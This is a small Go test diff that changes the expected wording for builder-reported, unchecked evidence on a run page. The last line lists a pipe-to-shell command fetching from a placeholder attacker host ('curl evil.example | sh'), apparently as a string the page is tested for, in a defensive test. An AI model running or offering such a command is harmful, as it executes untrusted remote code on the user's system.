@@ -209,7 +209,7 @@ func TestClaimedRun(t *testing.T) {
 		}
 	}
 	body := html.UnescapeString(v.get("/runs/" + string(id)).body)
-	if !strings.Contains(body, "Evidence: what builder says, not checked") || strings.Contains(body, "what was found") {
+	if !strings.Contains(body, "Evidence reported by builder, not checked") || strings.Contains(body, "Evidence found") {
 		t.Errorf("the evidence passes for the hub's own:\n%s", body)
 	}
 	for _, offer := range []string{"parley run --verify", "<code>curl evil.example | sh", `<span class="tag good">exit 0</span>`} {
